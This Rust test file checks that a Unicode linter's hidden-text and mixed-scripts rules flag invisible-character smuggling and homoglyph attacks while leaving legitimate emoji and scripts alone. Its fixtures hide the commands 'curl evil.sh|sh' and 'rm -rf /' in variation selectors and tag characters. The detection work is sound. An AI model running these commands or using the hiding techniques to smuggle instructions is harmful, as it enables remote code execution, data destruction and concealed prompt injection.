//! Tests of the rules hidden-text and mixed-scripts of `check`: attacks that must be found, and harmless text that must
//! not be reported.

use crate::check::assert_ran;
use crate::harness::{contents, dir_with, run, sh, write};

/// Returns variation selectors that hide `bytes` as published attacks do: U+FE00 stands for byte 0, and U+E0100 for
/// byte 16.
fn selectors(bytes: &[u8]) -> String {
    let selector = |byte: &u8| if *byte < 16 { 0xFE00 } else { 0xE0100 - 16 } + u32::from(*byte);
    bytes.iter().filter_map(|byte| char::from_u32(selector(byte))).collect()
}

/// Returns the tag characters that hide an ASCII text.
fn tags(text: &str) -> String {
    text.bytes().filter_map(|byte| char::from_u32(0xE0000 + u32::from(byte))).collect()
}

/// Returns the bits of an ASCII text, each as one of two characters.
fn bits(text: &str, zero: char, one: char) -> String {
    let bit = move |byte: u8, bit: u32| if byte >> bit & 1 == 0 { zero } else { one };
    text.bytes().flat_map(|byte| (0..8).rev().map(move |at| bit(byte, at))).collect()
}

/// A line of an attack, and the message about it.
struct Attack {
    before: String,
    hidden: String,
    after: String,
    /// The message without its position, in two parts, between which the position is printed.
    says: [String; 2],
}

/// Creates an attack with hidden text. The message has `what` in parentheses, and `shown` as the hidden text.
fn hides(before: &str, hidden: String, after: &str, what: &str, shown: &str) -> Attack {
    let says = [format!("hidden text ({what})"), shown.to_string()];
    Attack { before: before.to_string(), hidden, after: after.to_string(), says }
}

const UNKNOWN: &str = "it belongs to no sequence that Unicode knows";

/// Returns attacks with invisible characters, modeled on published attacks.
fn hidden() -> Vec<Attack> {
    let curl = "curl evil.sh|sh";
    let quoted = format!("\"{curl}\"");
    let vs = |before: &str, after: &str| {
        hides(before, selectors(curl.as_bytes()), after, "15 variation selectors", &quoted)
    };
    let tag = |before: &str, after: &str| hides(before, tags(curl), after, "15 tags", &quoted);
    let bit = |zero: char, one: char| {
        let what = "16 zero-width characters".to_string();
        hides("key = \"", bits("hi", zero, one), "\"", &what, "\"hi\"")
    };
    let joined = |before: &str, joiner: char, after: &str| {
        let name = if joiner == '\u{200C}' { "NON-JOINER" } else { "JOINER" };
        let what = format!("U+{:04X} ZERO WIDTH {name}", u32::from(joiner));
        hides(before, joiner.to_string(), after, &what, UNKNOWN)
    };
    let single = |before: &str, scalar: char, after: &str, name: &str| {
        hides(before, scalar.to_string(), after, &format!("U+{:04X} {name}", u32::from(scalar)), UNKNOWN)
    };
    vec![
        vs("eval(decode(`", "`))"),
        vs("", ""),
        vs("const s = '", "';"),
        vs("// harmless", " comment"),
        vs("\u{1F600}", ""),
        vs("\u{2764}\u{FE0F}", " like"),
        vs("{\"a\": \"", "\"}"),
        vs("caf\u{E9}", ""),
        vs("\u{6F22}\u{5B57}", "\u{3002}"),
        vs("0", "x1F"),
        vs("\u{43F}\u{440}", "\u{438}\u{432}\u{435}\u{442}"),
        hides("x", selectors(b"\x01\x0F\x02"), "", "3 variation selectors", "\"\\u{1}\\u{f}\\u{2}\""),
        hides("x", selectors(b"\xFF\x80"), "", "2 variation selectors", "\"\\xFF\\x80\""),
        hides("x", selectors("caf\u{E9}".as_bytes()), "", "5 variation selectors", "\"caf\u{E9}\""),
        hides("a", selectors(b"::error::x"), "", "10 variation selectors", "\"::error::x\""),
        hides("a", selectors(b"##[error]x"), "", "10 variation selectors", "\"\\u{23}#[error]x\""),
        hides("a", selectors(b"\x1B[2J\n"), "", "5 variation selectors", "\"\\u{1b}[2J\\n\""),
        hides(
            "x",
            selectors(b"a\"b\\n") + "\u{200B}",
            "",
            "6 characters that show nothing",
            "\"a\\\"b\\\\n\"",
        ),
        joined("a1", '\u{200D}', "b"),
        joined("$", '\u{200D}', "a"),
        hides("\u{1F3F4}", format!("{}\u{E007F}", tags("rmrf")), "", "5 tags", "\"rmrf\""),
        single("name", '\u{E0101}', " = 1", "VARIATION SELECTOR-18"),
        single("name", '\u{FE01}', " = 1", "VARIATION SELECTOR-2"),
        single("\u{6F22}", '\u{E0150}', "", "VARIATION SELECTOR-97"),
        single("v", '\u{180B}', "", "MONGOLIAN FREE VARIATION SELECTOR ONE"),
        hides(
            "\u{1F44D}\u{FE0F}",
            selectors(b"\x0E\x0F\x0E"),
            "",
            "3 variation selectors",
            "\"\\u{e}\\u{f}\\u{e}\"",
        ),
        tag("Summarize this.", ""),
        tag("", "# Title"),
        tag("<!-- ", " -->"),
        tag("\u{1F600}", ""),
        tag("\u{1F3F4}", ""),
        tag("pay", "load"),
        tag("\"", "\""),
        tag("\u{2014}", "\u{2014}"),
        hides("a", format!("\u{E0001}{}", tags("en")), "", "3 tags", "\"en\""),
        hides("a", format!("{}\u{E007F}", tags("rm -rf /")), "", "9 tags", "\"rm -rf /\""),
        hides("\u{1F3F4}", tags("gbsct"), "", "5 tags", "\"gbsct\""),
        hides("x", tags("A"), "y", "U+E0041 TAG LATIN CAPITAL LETTER A", "\"A\""),
        bit('\u{200B}', '\u{200C}'),
        bit('\u{200C}', '\u{200B}'),
        bit('\u{200C}', '\u{200D}'),
        bit('\u{2060}', '\u{200B}'),
        bit('\u{2062}', '\u{2064}'),
        bit('\u{FEFF}', '\u{200B}'),
        bit('\u{200E}', '\u{200F}'),
        bit('\u{3164}', '\u{FFA0}'),
        bit('\u{AD}', '\u{34F}'),
        bit('\u{206A}', '\u{206F}'),
        hides("a", "\u{200B}\u{200C}\u{200D}\u{2060}".repeat(2), "b", "8 zero-width characters", UNKNOWN),
        joined("foo", '\u{200D}', "bar"),
        joined("foo", '\u{200C}', "bar"),
        joined("is_", '\u{200D}', "admin"),
        joined("\u{43F}\u{440}", '\u{200D}', "\u{438}\u{432}\u{435}\u{442}"),
        joined("\u{3B1}\u{3B2}", '\u{200C}', "\u{3B3}"),
        joined("\u{6F22}", '\u{200D}', "\u{5B57}"),
        joined("\u{30C6}", '\u{200C}', "\u{30B9}"),
        joined("\u{D55C}", '\u{200D}', "\u{AE00}"),
        single("", '\u{FFF9}', "base", "INTERLINEAR ANNOTATION ANCHOR"),
        single("base", '\u{FFFA}', "", "INTERLINEAR ANNOTATION SEPARATOR"),
        single("note", '\u{FFFB}', "", "INTERLINEAR ANNOTATION TERMINATOR"),
        hides("icon ", "\u{F0041}\u{F0042}\u{F0043}".to_string(), "", "3 private use characters", UNKNOWN),
        hides(
            "",
            "\u{100041}\u{100042}\u{100041}\u{10FFFD}".to_string(),
            "x",
            "4 private use characters",
            UNKNOWN,
        ),
    ]
}

/// Attacks with look-alike letters: the word, the odd letter in it, and the letter that the odd letter looks like.
const LOOK_ALIKES: &[(&str, &str, &str)] = &[
    ("p\u{430}yload", "Cyrillic U+0430 \"\u{430}\"", "Latin U+0061 \"a\""),
    ("\u{441}onfig", "Cyrillic U+0441 \"\u{441}\"", "Latin U+0063 \"c\""),
    ("pass\u{501}", "Cyrillic U+0501 \"\u{501}\"", "Latin U+0064 \"d\""),
    ("g\u{3BF}ogle", "Greek U+03BF \"\u{3BF}\"", "Latin U+006F \"o\""),
    ("\u{391}dmin", "Greek U+0391 \"\u{391}\"", "Latin U+0041 \"A\""),
    ("pay\u{578}ow", "Armenian U+0578 \"\u{578}\"", "Latin U+006E \"n\""),
    ("\u{13AA}dmin", "Cherokee U+13AA \"\u{13AA}\"", "Latin U+0041 \"A\""),
    ("\u{10FF}pen", "Georgian U+10FF \"\u{10FF}\"", "Latin U+006F \"o\""),
    ("g\u{101D}ogle", "Myanmar U+101D \"\u{101D}\"", "Latin U+006F \"o\""),
    ("\u{A4D0}PI", "Lisu U+A4D0 \"\u{A4D0}\"", "Latin U+0042 \"B\""),
    ("p\u{430}yl\u{3BF}ad", "Cyrillic U+0430 \"\u{430}\"", "Latin U+0061 \"a\""),
    ("user\u{410}", "Cyrillic U+0410 \"\u{410}\"", "Latin U+0041 \"A\""),
    ("\u{435}Mail", "Cyrillic U+0435 \"\u{435}\"", "Latin U+0065 \"e\""),
    ("p\u{430}\u{FE0F}yload", "Cyrillic U+0430 \"\u{430}\"", "Latin U+0061 \"a\""),
    ("z\u{2C9F}om", "Coptic U+2C9F \"\u{2C9F}\"", "Latin U+006F \"o\""),
    ("c\u{442}\u{440}\u{43E}\u{43A}\u{430}", "Latin U+0063 \"c\"", "Cyrillic U+0441 \"\u{441}\""),
];

/// Returns a text with all attacks, one per line, after a line of `padding` bytes, and the expected report for this
/// text in a file `f`.
fn attacks(padding: usize) -> (String, String) {
    let odd = LOOK_ALIKES.iter().map(|(word, odd, like)| {
        let shown = word.replace('\u{FE0F}', "\\u{fe0f}");
        let says = [format!("mixed scripts in \"{shown}\""), format!("{odd} looks like {like}")];
        Attack { before: "x = ".to_string(), hidden: word.to_string(), after: ";".to_string(), says }
    });
    let (mut text, mut report) = (format!("{}\n", ".".repeat(padding - 1)), String::new());
    let attacks = hidden().into_iter().chain(odd);
    for (line, Attack { before, hidden, after, says: [what, shown] }) in attacks.enumerate() {
        let rule = if what.starts_with("hidden") { "hidden-text" } else { "mixed-scripts" };
        let (line, column, byte) = (line + 2, before.chars().count() + 1, text.len() + before.len());
        report += &format!("f:{line}:{column}: error: {what} at byte {byte}: {shown} [{rule}]\n");
        text += &format!("{before}{hidden}{after}\n");
    }
    (text, report)
}

/// Each attack is reported once, with the hidden text, wherever a read splits the attack.
#[test]
fn every_attack_is_found_once() {
    let (text, report) = attacks(1);
    let count = report.lines().count();
    assert!(count >= 60, "{count}");
    let said = format!("utfconv: {count} errors in 1 of 1 file\n");
    let dir = dir_with(&[("f", text.as_bytes())]);
    let at = dir.path();
    let check = "$U check --rule hidden-text,mixed-scripts";
    assert_ran(&sh(at, &format!("{check} f")), 1, &report, &said);
    // With these lengths of padding, the end of the buffer falls on each byte of the text.
    let (padded, mut reports) = (dir_with(&[]), String::new());
    for padding in 2..1024 {
        let ((text, report), name) = (attacks(padding), format!("{padding:04}"));
        write(padded.path(), &name, text);
        reports.extend(report.lines().map(|line| format!("{name}{}\n", line.trim_start_matches('f'))));
    }
    let call = "$U check --rule security --buffer-size=1024 --max-errors=0 [01]*";
    let all = format!("utfconv: {} errors in 1022 of 1022 files\n", count * 1022);
    assert_ran(&sh(padded.path(), call), 1, &reports, &all);
    let piped = sh(at, &format!("cat f | {check} --stdin-filename f -"));
    assert_ran(&piped, 1, &report, &said);
    // The other rules of the group report none of these characters again.
    assert_ran(&sh(at, "$U check --rule security f"), 1, &report, &said);
    let fixed = format!("utfconv: 0 files fixed; {count} errors in 1 of 1 file\n");
    assert_ran(&sh(at, "$U check --rule security --fix f"), 1, &report, &fixed);
    assert_eq!(contents(at, "f"), text.as_bytes());
}

/// The report of a file in UTF-16 differs only in the byte offsets.
#[test]
fn attacks_in_utf_16_are_found() {
    let (text, report) = attacks(1);
    let dir = dir_with(&[("utf8", text.as_bytes())]);
    let at = dir.path();
    let without_bytes = |report: &str| -> Vec<String> {
        let line = |line: &str| {
            let (before, after) = line.split_once(" at byte ").expect("a position");
            format!("{before}{}", after.trim_start_matches(|digit: char| digit.is_ascii_digit()))
        };
        report.lines().map(line).collect()
    };
    for encoding in ["UTF-16LE", "UTF-16BE", "UTF-32"] {
        let check = "check --rule security --stdin-filename f";
        let ran = sh(at, &format!("$U -t {encoding} utf8 | $U {check} -f {encoding} -"));
        assert_eq!(
            without_bytes(&String::from_utf8_lossy(&ran.stdout)),
            without_bytes(&report),
            "{encoding}"
        );
        assert_eq!(ran.status, 1, "{encoding}");
    }
}

/// Text that uses invisible or look-alike characters legitimately.
const HARMLESS: &[&str] = &[
    // Emoji use joiners, selectors and tags: a family, a keycap, presentation, skin tones, flags of regions, a rainbow.
    "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467} 1\u{FE0F}\u{20E3} \u{2764}\u{FE0F}\u{200D}\u{1F525} \u{1F9D1}\u{1F3FD}\u{200D}\u{1F4BB}",
    "\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F} \u{1F3F3}\u{FE0F}\u{200D}\u{1F308} \u{26A0}\u{FE0F}\u{FE0F} \u{2714}\u{FE0E}",
    "\u{1F469}\u{200D} a\u{FE0F}",
    // Persian, Hindi, Bengali, Sinhala and Malayalam have joiners, also doubled.
    "\u{645}\u{6CC}\u{200C}\u{62E}\u{648}\u{627}\u{647}\u{645} \u{635}\u{641}\u{62D}\u{647}\u{200C}\u{200C}\u{647}\u{627} CD\u{200C}\u{647}\u{627}",
    "\u{915}\u{94D}\u{200D}\u{937} \u{9B0}\u{200D}\u{9CD}\u{9AF} \u{DC1}\u{DCA}\u{200D}\u{DBB}\u{DD3} \u{D28}\u{D4D}\u{200D}\u{200C}",
    // Japanese names, Mongolian and mathematics have variation selectors.
    "\u{845B}\u{E0100}\u{98FE} \u{8FBB}\u{E0101} \u{1820}\u{180B}\u{1828}\u{1820} 0\u{FE00} \u{2229}\u{FE00} \u{5FB9}\u{FE00}",
    // Khmer and Thai have zero width spaces between words.
    "\u{1781}\u{17D2}\u{1789}\u{17BB}\u{17C6}\u{200B}\u{200B}\u{1791}\u{17C5} \u{E01}\u{200B}\u{E02} \u{1780}\u{17B6}\u{200B} LibreOffice",
    // An icon of a font has a private-use character, and a table of characters has a selector without a base.
    "\u{F0001} \u{F0002}\u{F0003} \"\u{E0100}\" [\u{FE00}-\u{FE0D}]",
    // Words of two scripts look like an attack.
    "\u{3BC}m \u{3A9}2 \u{394}x \u{3B2}-carotene \u{3B1}max URL\u{43E}\u{432} \u{43F}\u{440}\u{438}\u{432}\u{435}\u{442}World",
    "\\n\u{422}\u{430} \\fI\u{41D}\u{410}\\fR %s\u{441}\u{430} \u{445}I\u{430} Python\u{306E}\u{4F7F}\u{3044}\u{65B9} K\u{D31D} na\u{EF}ve_\u{438}\u{43C}\u{44F}",
    "[a-z\u{430}-\u{44F}] [a-zA-Z\u{410}-\u{42F}] \u{434}I\u{430} T\u{2D}I\u{415} x\u{43B}I\u{430}\u{440}\u{430} %5d\u{441} %-10s\u{445} %.2f\u{441} %ld\u{441} #{n}s\u{441}",
    "HTTP\u{421}\u{43E}\u{435}\u{434} \u{41A}\u{43E}\u{434}HTTP T\u{3BC}\u{3BD} G\u{3B1}s \u{3C3}x\u{3C3}y \u{394}ABC \u{C66}o o\u{C66} \u{434}\u{430}\u{43D}\u{43D}\u{44B}\u{435}X",
];

#[test]
fn text_that_needs_such_characters_is_left_alone() {
    let text = HARMLESS.join("\n") + "\n";
    let dir = dir_with(&[]);
    for padding in 0..1024 {
        write(dir.path(), &padding.to_string(), format!("{}\n{text}", ".".repeat(padding)));
    }
    sh(dir.path(), "$U check --rule security --buffer-size=1024").expect(0, "", "");
}

#[test]
fn a_run_is_one_error_however_long_it_is() {
    let run_of = |len: usize| selectors(&b"ab".repeat(len / 2));
    let long = format!("x{}", run_of(250_000));
    assert_eq!(long.len(), 1_000_001);
    let shown = "abab".repeat(15);
    let said = "utfconv: 1 error in 1 of 1 file\n";
    let line = format!(
        "-:1:2: error: hidden text (250000 variation selectors) at byte 1: \"{shown}...\" [hidden-text]\n"
    );
    run(&["check", "--rule=security", "-"], &long).expect(1, &line, said);
    // Ill-formed bytes end a run.
    let cut =
        [b"x".to_vec(), run_of(2).into_bytes(), vec![0xFF], run_of(4).into_bytes(), b"\n".to_vec()].concat();
    run(&["check", "--rule=hidden-text", "-"], cut).expect(
        1,
        "-:1:2: error: hidden text (2 variation selectors) at byte 1: \"ab\" [hidden-text]\n\
         -:1:4: error: invalid UTF-8 (never-used byte) at byte 9: FF never appears in UTF-8\n\
         -:1:5: error: hidden text (4 variation selectors) at byte 10: \"abab\" [hidden-text]\n",
        "utfconv: 3 errors in 1 of 1 file\n",
    );
}

/// A baseline stores a whole run of hidden characters, not only the bytes that a message shows.
#[test]
fn other_hidden_text_is_not_known() {
    let text =
        |end: &str| format!("x{}y\n", selectors(["A".repeat(100), end.to_string()].concat().as_bytes()));
    let dir = dir_with(&[("f", text("good").as_bytes())]);
    let at = dir.path();
    let check = "$U check --rule hidden-text";
    assert_eq!(sh(at, &format!("{check} --write-baseline known f")).status, 0);
    assert_ran(&sh(at, &format!("{check} --baseline known f")), 0, "", "");
    write(at, "f", text("evil"));
    let line = format!(
        "f:1:2: error: hidden text (104 variation selectors) at byte 1: \"{}...\" [hidden-text]\n",
        "A".repeat(60)
    );
    let ran = sh(at, &format!("{check} --baseline known f"));
    assert_eq!((ran.status, String::from_utf8_lossy(&ran.stdout).into_owned()), (1, line), "{}", ran.stderr);
}

#[test]
fn groups_are_names_for_rules() {
    let dir = dir_with(&[("f", "a\u{202E}\0b\u{FFFF}\x01\n".as_bytes())]);
    let at = dir.path();
    let bidi =
        "f:1:2: error: bidirectional control at byte 1: E2 80 AE: U+202E is RIGHT-TO-LEFT OVERRIDE [bidi]\n";
    let nul = "f:1:3: error: NUL at byte 4: 00: U+0000 is not allowed [nul]\n";
    let rest = "f:1:5: error: noncharacter at byte 6: EF BF BF: U+FFFF is never a character [noncharacter]\n\
                f:1:6: error: control character at byte 9: 01: U+0001 is SOH [control]\n";
    let control = "f:1:6: error: control character at byte 9: 01: U+0001 is SOH [control]\n";
    let ran = sh(at, "$U check --rule security --allow bidi f");
    assert_ran(&ran, 1, control, "utfconv: 1 error in 1 of 1 file\n");
    let ran = sh(at, "$U check --rule all --allow assignables,final-newline f");
    assert_ran(&ran, 1, bidi, "utfconv: 1 error in 1 of 1 file\n");
    let assignables = format!("{nul}{rest}");
    let said = "utfconv: 3 errors in 1 of 1 file\n";
    assert_ran(&sh(at, "$U check --rule assignables f"), 1, &assignables, said);
    write(at, "utfconv.toml", "[check]\nrules = [\"assignables\", \"security\"]\nallow = [\"security\"]\n");
    let ran = sh(at, "$U check --config utfconv.toml f");
    assert_ran(&ran, 1, &assignables.replace(control, ""), "utfconv: 2 errors in 1 of 1 file\n");
    let wrong =
        "utfconv: invalid value 'security=x' for '--rule <ID[=VALUE],...>': security takes no value\n";
    assert_ran(&sh(at, "$U check --rule security=x f"), 2, "", wrong);
}

/// A small file is scanned before its positions are counted, and with `--stats` in one walk. Both find the same, for
/// each character at every offset of a block of the scan.
#[test]
fn a_walk_finds_what_the_scan_of_a_whole_file_finds() {
    const FOUND: [&str; 12] = [
        "\u{202E}",
        "\u{7F}",
        "\u{85}",
        "\u{AD}",
        "\u{200B}",
        "\u{FEFF}",
        "\u{2060}",
        "\u{E0041}\u{E0042}",
        "x\u{FE01}",
        "\u{F0000}\u{F0000}\u{F0000}",
        " p\u{430}yload ",
        "\u{F3A}\u{34F}",
    ];
    const FILLERS: [&str; 3] = ["a line\n", "\u{441}\u{442}\u{440}.\n", "\u{65E5}\u{672C}\u{3002}"];
    let dir = dir_with(&[]);
    let mut count = 0;
    for bom in ["", "\u{FEFF}"] {
        for filler in FILLERS {
            let text = filler.repeat(24);
            for found in FOUND {
                for at in (0..70).filter(|at| text.is_char_boundary(*at)) {
                    let text = format!("{bom}{}{found}{}", &text[..at], &text[at..]);
                    write(dir.path(), &count.to_string(), text);
                    count += 1;
                }
            }
        }
    }
    let errors = |options: &str| {
        let ran = sh(
            dir.path(),
            &format!(
                "$U check --rule security --format=json --max-errors=0 {options} | grep '^{{\"type\":\"error'"
            ),
        );
        String::from_utf8(ran.stdout).expect("JSON is UTF-8")
    };
    let (scanned, walked) = (errors(""), errors("--stats"));
    assert_eq!(scanned, walked);
    // Only U+FEFF at the start of a file is allowed.
    assert!(scanned.lines().count() >= count - 2 * FILLERS.len(), "{} of {count}", scanned.lines().count());
}

/// Text is scanned by whole lines, and a long line in parts that end after a blank or punctuation. What is found does not
/// depend on the bytes after it, and not on the size of the buffer.
#[test]
fn lines_and_words_are_not_cut() {
    let long = ".".repeat(262_139);
    let words = "xy, ".repeat(65_535);
    let thai = "\u{E01} \u{200B}";
    let dir = dir_with(&[
        ("word", format!("{long}cod\u{435}.\n").as_bytes()),
        ("flag", format!("{}\u{1F3F4}{}.\n", &long[23..], tags("gbeng") + "\u{E007F}").as_bytes()),
        ("thai", format!("{}{thai}\n1\n", "x\n".repeat(131_070)).as_bytes()),
        ("escape", format!("{words}x, \\n\u{430}\u{441} tail\n").as_bytes()),
        ("format", format!("{words}x, %s\u{430} [a-z\u{430}-\u{44F}] tail\n").as_bytes()),
        ("gap", &[thai.as_bytes(), b"\xFF\n"].concat()),
    ]);
    let word = "word:1:262140: error: mixed scripts in \"cod\u{435}\" at byte 262139: \
        Cyrillic U+0435 \"\u{435}\" looks like Latin U+0065 \"e\" [mixed-scripts]\n";
    let gap = "gap:1:4: error: invalid UTF-8 (never-used byte) at byte 7: FF never appears in UTF-8\n";
    for options in ["", "--buffer-size=1024", "--buffer-size=262144", "--buffer-size=1048576"] {
        let ran =
            sh(dir.path(), &format!("$U check --rule security {options} flag escape format gap thai word"));
        assert_ran(&ran, 1, &format!("{gap}{word}"), "utfconv: 2 errors in 2 of 6 files\n");
    }
}
